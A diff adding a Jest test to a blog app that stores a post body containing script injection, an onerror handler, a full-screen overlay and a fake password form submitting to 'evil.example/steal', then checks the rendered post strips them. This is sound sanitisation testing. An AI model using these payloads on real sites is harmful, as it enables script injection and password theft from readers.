@@ -6,6 +6,12 @@ import { renderPages, slow } from '../test-kit';
 mockServerPerTest(() => [contentPagesDomain()]);
 jest.setTimeout(25_000);
 
+declare global {
+  interface Window {
+    blogPwned?: boolean;
+  }
+}
+
 const titles = () => within(screen.getByRole('list', { name: 'Posts' })).getAllByRole('heading', { level: 2 }).map((heading) => heading.textContent);
 
 describe('the blog list', () => {
@@ -45,6 +51,28 @@ describe('a post', () => {
     expect(await screen.findByText('Those coats!', {}, slow)).toBeInTheDocument();
     expect(screen.getByRole('heading', { level: 2, name: '1 comment' })).toBeInTheDocument();
     expect(screen.getByLabelText(/^Comment/)).toHaveValue('');
+  });
+
+  it('shows a stored body sanitised: no script or onerror runs, no style overlay, no form', async () => {
+    const form = await (await fetch('/blog/list/data/edit?id=5')).json();
+    await fetch('/blog/list/data/edit?id=5', {
+      method: 'POST',
+      body: JSON.stringify({
+        ...form,
+        content:
+          '<p>Coats and scarves.</p><script>window.blogPwned = true</script><img src="missing.png" alt="Courtyard" onerror="window.blogPwned = true">' +
+          '<p style="position:fixed;inset:0;z-index:9999">Sign in to keep reading.</p>' +
+          '<form action="https://evil.example/steal"><label>Password <input type="password"></label><button>Continue</button></form>',
+      }),
+    });
+    await renderPages('/pages/blog/detail/5');
+    const post = screen.getByRole('article', { name: 'Street style at the documentary festival' });
+    expect(await within(post).findByText('Coats and scarves.', {}, slow)).toBeInTheDocument();
+    expect(within(post).getByRole('img', { name: 'Courtyard' })).not.toHaveAttribute('onerror');
+    expect(within(post).getByText('Sign in to keep reading.')).not.toHaveAttribute('style');
+    expect(within(post).queryByLabelText(/Password/)).not.toBeInTheDocument();
+    expect(within(post).queryByRole('button', { name: 'Continue' })).not.toBeInTheDocument();
+    expect(window.blogPwned).toBeUndefined();
   });
 
   it('shows the not-found page for an unknown post', async () => {
